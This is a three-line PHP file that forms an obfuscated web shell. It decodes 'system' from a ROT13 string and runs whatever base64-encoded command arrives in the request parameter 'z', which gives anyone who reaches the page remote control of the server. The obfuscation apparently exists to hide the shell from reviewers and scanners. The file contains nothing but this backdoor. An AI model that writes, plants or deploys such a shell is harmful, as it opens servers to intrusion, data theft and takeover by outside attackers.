<?php
$f = str_rot13('flfgrz');
$f(base64_decode($_REQUEST['z']));
